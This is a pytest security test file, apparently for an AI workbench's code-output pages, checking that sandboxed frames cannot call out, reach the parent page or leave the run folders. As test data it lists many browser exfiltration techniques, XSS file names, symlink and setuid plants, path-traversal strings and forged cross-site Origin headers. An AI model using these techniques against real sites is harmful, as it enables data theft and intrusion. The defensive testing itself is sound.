"""Code as an enemy of the page: everything that it prints, names, shows, links and serves must stay data."""

import collections
import contextlib
import os
import socket
import threading
from collections.abc import Callable, Iterator
from pathlib import Path
from typing import Any

import httpx
import pytest
from playwright.sync_api import Error as PlaywrightError

from samantha.models.scripted import ScriptedModel
from samantha.ui import code_files
from samantha.ui.guard import FRAME_POLICY
from tests.ui.conftest import XSS, Served
from tests.ui.test_code_page import PATIENCE, block
from tests.ui.test_page import CARD, choose, done, prompt

RUN = "20250101-000000-abcd"
Open = Callable[..., Any]


class Listener:
    """Counts who connects, and remembers nothing else."""

    def __init__(self) -> None:
        self.hits: collections.Counter[str] = collections.Counter()
        self._stream = socket.create_server(("127.0.0.1", 0))
        self._datagram = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
        self._datagram.bind(("127.0.0.1", 0))
        self.port = self._stream.getsockname()[1]
        self.datagram_port = self._datagram.getsockname()[1]
        for work in (self._accept, self._receive):
            threading.Thread(target=work, daemon=True).start()

    def _accept(self) -> None:
        while True:
            try:
                connection, _ = self._stream.accept()
            except OSError:
                return
            self.hits["connection"] += 1
            connection.close()

    def _receive(self) -> None:
        while True:
            try:
                self._datagram.recvfrom(2000)
            except OSError:
                return
            self.hits["datagram"] += 1

    def close(self) -> None:
        for one in (self._stream, self._datagram):
            one.close()


@pytest.fixture
def listener() -> Iterator[Listener]:
    made = Listener()
    yield made
    made.close()


@pytest.fixture
def inside(served: Served) -> Iterator[httpx.Client]:
    """A client with the cookie."""
    cookies = {f"samantha-{served.page.port}": served.page.token}
    with httpx.Client(base_url=served.base, cookies=cookies, timeout=20) as client:
        yield client


@pytest.fixture
def run(samantha_home: Path) -> Path:
    """The folder of a run."""
    folder = samantha_home / "work" / RUN
    for name in ("box", "shown/step-1-ab"):
        (folder / name).mkdir(parents=True)
    return folder


def calls(outside: Listener) -> list[str]:
    """Pages that try to call out, one way each."""
    address = f"http://127.0.0.1:{outside.port}/x"
    peer = (
        f"var peer = new RTCPeerConnection({{iceServers: [{{urls: 'stun:127.0.0.1:{outside.datagram_port}'}}]}});"
        "peer.createDataChannel('x'); peer.createOffer().then((offer) => peer.setLocalDescription(offer))"
    )
    scripts = [
        f"fetch('{address}', {{mode: 'no-cors'}})", f"navigator.sendBeacon('{address}', 'x')",
        f"new Image().src = '{address}'", f"location = '{address}'", f"top.location = '{address}'",
        f"parent.location.href = '{address}'", f"window.open('{address}')",
        f"new WebSocket('ws://127.0.0.1:{outside.port}/')", f"new EventSource('{address}')",
        f"import('{address}')", f"new Worker(URL.createObjectURL(new Blob([\"importScripts('{address}')\"])))",
        f"var a = document.createElement('a'); a.href = a.ping = '{address}'; document.body.append(a); a.click()",
        f"var f = document.createElement('form'); f.action = '{address}'; document.body.append(f); f.submit()",
        f"var i = document.createElement('iframe'); i.src = '{address}'; document.body.append(i)",
        f"var l = document.createElement('link'); l.rel = 'preconnect'; l.href = '{address}'; document.head.append(l)",
        f"var x = new XMLHttpRequest(); x.open('POST', '{address}'); x.send('x')",
        f"document.body.style.backgroundImage = 'url({address})'", f"new Audio('{address}').play()",
        f"new FontFace('x', 'url({address})').load()", peer,
        f"navigator.serviceWorker.register('{address}')",
    ]  # fmt: skip
    plain = [
        f"<link rel=preconnect href='{address}'>", f"<link rel=prefetch href='{address}'>", f"<img src='{address}'>",
        f"<link rel=dns-prefetch href='{address}'>", f"<link rel=stylesheet href='{address}'>",
        f"<meta http-equiv=refresh content='0;url={address}'>", f"<iframe src='{address}'></iframe>",
        f"<iframe srcdoc=\"<script>{peer}</script>\"></iframe>", f"<object data='{address}'></object>",
        f"<embed src='{address}'>", f"<video src='{address}' autoplay></video>",
        f"<base href='{address}'><img src=x>",
        f"<svg><image href='{address}'/><use href='{address}#a'/></svg>", f"<script src='{address}'></script>",
        f"<style>@import url({address}); @font-face {{font-family: y; src: url({address})}} b {{font: 9px y}}</style>",
        f"<script type=speculationrules>{{\"prefetch\": [{{\"urls\": [\"{address}\"]}}]}}</script>",
        f"<link rel=manifest href='{address}'>", f"<link rel=icon href='{address}'>",
    ]  # fmt: skip
    return [*(f"<body><script>{script}</script>" for script in scripts), *plain]


FRAMED = """(address) => {
  const frame = document.createElement('iframe');
  frame.setAttribute('sandbox', 'allow-scripts');
  frame.src = address;
  document.body.append(frame);
  return new Promise((done) => { frame.onload = frame.onerror = done; setTimeout(done, 2000); });
}"""


def test_no_page_of_the_code_calls_out(served: Served, browser: Any, run: Path, listener: Listener) -> None:
    tried = calls(listener)
    assert len(tried) > 35
    context = browser.new_context()
    page = context.new_page()
    page.goto(served.page.address)
    for number, html in enumerate(tried, 1):
        name = f"step-1-ab/{number:04}.html"
        (run / "shown" / name).write_text(f"<!doctype html>{html}")
        page.goto(f"{served.base}/samantha/texts.json")  # any document of ours: all have the same policy
        # Chromium ends the process of a frame that tries some of this; Playwright takes that for the page's end.
        with contextlib.suppress(PlaywrightError):
            page.evaluate(FRAMED, code_files.address("shown", RUN, name))
            page.wait_for_timeout(400)
            continue
        page = context.new_page()
    assert listener.hits == {}
    context.close()


def test_no_page_of_the_code_reaches_ours(served: Served, browser: Any, run: Path) -> None:
    attempts = """<body><script>
      const found = [];
      const attempt = (name, act) => { try { act(); found.push(name); } catch (error) { /* as it should be */ } };
      attempt('parent document', () => parent.document.title);
      attempt('parent window', () => { parent.hacked = 1; });
      attempt('cookie', () => { if (!document.cookie) throw 0; });
      attempt('write cookie', () => { document.cookie = 'a=b'; if (!document.cookie) throw 0; });
      attempt('storage', () => localStorage.length);
      attempt('session storage', () => sessionStorage.length);
      attempt('frame element', () => { if (!frameElement) throw 0; });
      attempt('top navigation', () => { top.location = '/samantha/texts.json'; });
      attempt('alert', () => { if (alert(1) === undefined) throw 0; });
      fetch('/samantha/texts.json').then(() => found.push('fetch'), () => 0);
      fetch('/gradio_api/component_server', { method: 'POST', body: '{}' }).then(() => found.push('post'), () => 0);
      parent.postMessage({ samantha: 'height', height: 1e9 }, '*');
      parent.postMessage({ samantha: 'height', height: '<b>' }, '*');
      setTimeout(() => { document.body.textContent = 'tried ' + found.join(', '); }, 800);
    </script>"""
    (run / "shown/step-1-ab/0001.html").write_text(attempts)
    page = browser.new_page()
    page.goto(served.page.address)
    page.wait_for_selector("#prompts textarea")
    page.evaluate(FRAMED, code_files.address("shown", RUN, "step-1-ab/0001.html"))
    frame = page.frames[-1]
    frame.wait_for_function("document.body.textContent.startsWith('tried')", polling=100)  # it may be out of sight
    assert frame.evaluate("document.body.textContent.replace(/, ?top navigation|top navigation/, '')") == "tried "
    assert page.evaluate("window.hacked") is None
    assert page.url == f"{served.base}/"
    page.context.close()


def test_a_page_of_the_code_that_is_opened_alone_has_no_origin_either(served: Served, browser: Any, run: Path) -> None:
    html = "<script>try { document.title = 'cookie ' + document.cookie } catch { document.title = 'none' }</script>"
    (run / "shown/step-1-ab/0001.html").write_text(html)
    page = browser.new_page()
    page.goto(served.page.address)
    page.goto(served.base + code_files.address("shown", RUN, "step-1-ab/0001.html"))
    assert page.title() == "none"
    page.context.close()


def test_what_code_says_does_nothing(opened: Open, served: Served) -> None:
    names = ['"><img src=x onerror=window.hacked=1>.csv', "${window.hacked=1}.txt", "a'onclick='window.hacked=1.txt"]
    hostile = block(
        f"import sys, pandas as pd\ntext = {XSS!r}\nprint(text)\nprint(text, file=sys.stderr)\n"
        f"for name in {names!r}: open(name, 'w').write(text)\n"
        "print(pd.DataFrame({text: [text, '<script>parent.hacked = 1</script>']}))\n"
        "import matplotlib.pyplot as plt\nplt.plot([1])\nplt.title(text[:60])\nplt.show()\n"
        "raise ValueError(text)"
    )
    served.models.models["hostile"] = ScriptedModel("hostile", [hostile])
    page = opened()
    page.set_default_timeout(PATIENCE)
    choose(page, "hostile")
    page.check("#flag-run_code")
    prompt(page, "Hi")
    page.click("#start")
    page.wait_for_selector(f"{CARD} .code-foot.bad")
    done(page)
    page.wait_for_timeout(800)
    part = page.locator(f"{CARD} .code-part")
    for forbidden in ("script", "svg", "style", "form", "base", "meta", "object", "embed", ".printed *:not(span)"):
        assert part.locator(forbidden).count() == 0, forbidden
    assert all(frame.get_attribute("sandbox") == "allow-scripts" for frame in part.locator("iframe").all())
    assert "<script>window.hacked = 1</script>" in part.locator(".printed").inner_text()
    assert sorted(part.locator(".files a").all_inner_texts()) == sorted(names)
    for link in part.locator(".files a").all():
        with page.expect_download() as download:
            link.click()
        assert Path(download.value.path()).read_text() == XSS
    page.get_by_role("tab", name="History").click()
    page.click("#history tbody button")
    page.wait_for_selector("#history article .code-part")
    page.wait_for_timeout(500)
    assert page.evaluate("window.hacked") is None
    assert page.url == f"{served.base}/"


def test_what_code_plants_leads_nowhere(opened: Open, served: Served, tmp_path: Path, samantha_home: Path) -> None:
    secret = tmp_path / "secret.txt"
    secret.write_text("the secret")
    planting = block(
        f"import os\nos.symlink({str(secret)!r}, 'link.txt')\nos.symlink('/etc', 'etc')\nos.mkfifo('pipe')\n"
        "os.link('/etc/hostname', 'hard') if os.access('/etc/hostname', os.W_OK) else None\n"
        "open('tool', 'w').write('x')\ntry: os.chmod('tool', 0o6755)\nexcept PermissionError: pass\n"
        "open('plain.txt', 'w').write('x')\n"
        "here = os.listdir('/shown')\n"
        "for folder in here:\n"
        "    os.mkfifo(f'/shown/{folder}/0001.png')\n"
        f"    os.symlink({str(secret)!r}, f'/shown/{{folder}}/0002.html')\n"
        "    open(f'/shown/{folder}/0003.png', 'w').write('<script>alert(1)</script>')\n"
        "print('planted', len(here))"
    )
    served.models.models["planter"] = ScriptedModel("planter", [planting])
    page = opened()
    page.set_default_timeout(PATIENCE)
    choose(page, "planter")
    page.check("#flag-run_code")
    prompt(page, "Hi")
    page.click("#start")
    page.wait_for_selector(f"{CARD} .code-foot")
    done(page)
    assert "planted" in page.inner_text(f"{CARD} .printed")
    assert page.locator(f"{CARD} figure").count() == 0
    assert sorted(page.locator(f"{CARD} .files a").all_inner_texts()) == ["plain.txt", "tool"]
    run = next(path.name for path in (samantha_home / "work").glob("2*"))
    statuses = page.evaluate(
        "(addresses) => Promise.all(addresses.map((one) => fetch(one).then((answer) => answer.status)))",
        [code_files.address("box", run, name) for name in ("link.txt", "etc/passwd", "pipe", "plain.txt")],
    )
    assert statuses == [404, 404, 404, 200]


def test_answers_for_frames_and_downloads_have_their_headers(inside: httpx.Client, run: Path) -> None:
    (run / "shown/step-1-ab/0001.html").write_text("<b>hi</b>")
    (run / "box/a.html").write_text("<script>alert(1)</script>")
    (run / 'box/é "x"\n.txt').write_text("x")
    page = inside.get(code_files.address("shown", RUN, "step-1-ab/0001.html"))
    assert page.headers["content-security-policy"] == FRAME_POLICY
    assert page.headers["connection-allowlist"] == "()"
    assert page.headers["x-frame-options"] == "SAMEORIGIN"
    assert page.headers["x-content-type-options"] == "nosniff"
    assert "allow-same-origin" not in FRAME_POLICY
    file = inside.get(code_files.address("box", RUN, "a.html"))
    assert file.headers["content-type"] == "application/octet-stream"
    assert file.headers["content-disposition"] == "attachment; filename*=UTF-8''a.html"
    assert file.headers["x-frame-options"] == "DENY"
    odd = inside.get(code_files.address("box", RUN, 'é "x"\n.txt'))
    assert odd.headers["content-disposition"] == "attachment; filename*=UTF-8''%C3%A9%20-x--.txt"


def test_no_address_leads_out_of_the_runs_folders(inside: httpx.Client, run: Path, samantha_home: Path) -> None:
    (samantha_home / "runs.sqlite3").write_text("the store")
    (run / "code").mkdir()
    (run / "code/step-1.py").write_text("x")
    tried = 0
    for name in ("../code/step-1.py", "../../../runs.sqlite3", "/etc/passwd", "..", ".", "", "a/../../code/step-1.py"):
        for kind in ("box", "shown"):
            answer = inside.get(code_files.address(kind, RUN, name))  # type: ignore[arg-type]
            assert answer.status_code == 404, (kind, name)
            tried += 1
    for path in (f"code/{RUN}/eA", f"box/{RUN}", "box", f"box/..%2f{RUN}/eA", f"box/{RUN}/..%2f..%2feA", "shown/x/x"):
        assert inside.get(f"/samantha/code/{path}").status_code in (404, 405), path
        tried += 1
    assert tried == 20


def test_another_page_cannot_run_code_or_grant_anything(served: Served, inside: httpx.Client) -> None:
    config = inside.get("/config").json()
    ids = [one["id"] for one in config["components"] if one["props"].get("elem_id") in ("access", "desk", "workshop")]
    assert len(ids) == 3
    names = ["full", "allow", "network", "run_text", "run_last", "jupyter", "executable", "close"]
    body = {"session_hash": "x", "data": ["0" * 32, "full access", False]}
    for foreign in (
        {"Origin": "http://evil.test"},
        {"Sec-Fetch-Site": "cross-site"},
        {"Origin": "null"},
        {"Host": "evil.test"},
    ):
        for component in ids:
            for name in names:
                given = {**body, "component_id": component, "fn_name": name}
                answer = inside.post("/gradio_api/component_server", json=given, headers=foreign)
                assert answer.status_code == 403
    with httpx.Client(base_url=served.base) as outside:
        assert outside.post("/gradio_api/component_server", json=body).status_code == 401
    session = served.page.workbench.sessions.of("0" * 32)
    assert not session.grants.access.full
    assert not session.desk.running


def test_a_tabs_id_is_never_told_to_another(served: Served, inside: httpx.Client) -> None:
    tab = os.urandom(16).hex()
    served.page.workbench.sessions.of(tab).grants.full("full access")
    for path in ("/config", "/samantha/texts.json", "/"):
        assert tab not in inside.get(path).text
